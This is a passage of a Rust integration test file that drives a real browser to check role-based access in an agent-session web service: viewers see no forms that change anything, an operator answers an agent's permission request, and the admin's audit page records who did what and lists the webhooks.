        .eval("document.querySelector('ul.answered li')?.textContent")
        .await;
    assert!(
        answered
            .as_str()
            .is_some_and(|t| t.starts_with("Remove target/: allow — admin through cli, ")),
        "{answered}"
    );
    b.width(400).await;
    b.open(&format!("{}/sessions/{id}", s.url)).await;
    b.screenshot("answered-400").await;
    assert_eq!(
        page_problems(&mut b, 400).await,
        json!([]),
        "answered at 400 px"
    );
    assert!(
        arrived < Duration::from_secs(1) && left < Duration::from_secs(1),
        "asked: seen after {arrived:?}; answered: gone after {left:?}"
    );
}

/// Issue 52 in a real browser: a viewer logs in with their own token and sees a session without
/// a form that would change it; an operator answers its agent's request; the admin's Audit page
/// says who did what, lists the people and the webhooks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn people_see_what_their_role_allows_and_the_admin_reads_the_trail_in_a_browser() {
    use std::time::Duration;
    let s = Server::start().await;
    s.agent("a", json!({})).await;
    let r = s.runner("r", &["a"]).await;
    let token = |v: serde_json::Value| v["token"].as_str().unwrap().to_owned();
    let vic = token(
        s.ok(
            Method::POST,
            "/v1/users",
            Some(json!({ "name": "vic", "role": "viewer" })),
        )
        .await,
    );
    let ola = token(
        s.ok(
            Method::POST,
            "/v1/users",
            Some(json!({ "name": "ola", "role": "operator" })),
        )
        .await,
    );
    s.ok(
        Method::POST,
        "/v1/webhooks",
        Some(
            json!({ "name": "ops", "url": "https://hooks.example.com/blaise",
                     "events": ["permission_requested"], "secret": "env:BLAISE_WEBHOOK_TEST_UNSET" }),
        ),
    )
    .await;
    let id = s.new_session("a", "clean up the build").await;
    let run = r.take_started("start").await;
    crate::waiting_for_you::ask(&r, &run, crate::waiting_for_you::removal("perm-1")).await;

    let profile = tempfile::tempdir().unwrap();
    let mut b = crate::browser::Browser::start(profile.path()).await;
    b.log_in(&s.url, &vic, &format!("/sessions/{id}")).await;
    b.until(
        "document.querySelector('.permission') !== null",
        Duration::from_secs(5),
    )
    .await;
    assert_eq!(
        b.eval("document.querySelectorAll('form[method=post]:not([action=\"/logout\"])').length")
            .await,
        0,
        "a viewer's page has no form that changes anything"
    );
    assert_eq!(
        b.eval("document.querySelector('a[href=\"/audit\"]')").await,
        serde_json::Value::Null
    );
    b.screenshot("people-viewer-session").await;
    b.navigates("document.querySelector('header form[action=\"/logout\"]').requestSubmit()")
        .await;

    b.log_in(&s.url, &ola, &format!("/sessions/{id}")).await;
    b.navigates("document.querySelector('.answer-allow_once').click()")
        .await;
    b.until(
        "document.querySelector('#transcript .answered')?.textContent.includes('ola')",
        Duration::from_secs(5),
    )
    .await;
    b.screenshot("people-operator-answered").await;
    b.navigates("document.querySelector('header form[action=\"/logout\"]').requestSubmit()")
        .await;

    b.log_in(&s.url, ADMIN, "/audit").await;
    let rows = b
        .eval("[...document.querySelectorAll('#audit .audit-entry')].map(r => r.textContent)")
        .await;
    let rows: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    // One row says both: who did it, and what.
    for (who, action) in [("ola", "permission.answer"), ("vic", "login")] {
        assert!(
            rows.iter().any(|r| r.contains(who) && r.contains(action)),
            "a row of {who}'s {action}: {rows:?}"
        );
    }
    assert!(
        b.dom().await.contains("id=\"webhooks\""),
        "the webhooks are listed"
    );
    b.screenshot("people-audit").await;
    b.width(400).await;
    b.settle().await;
    b.screenshot("people-audit-400").await;
}
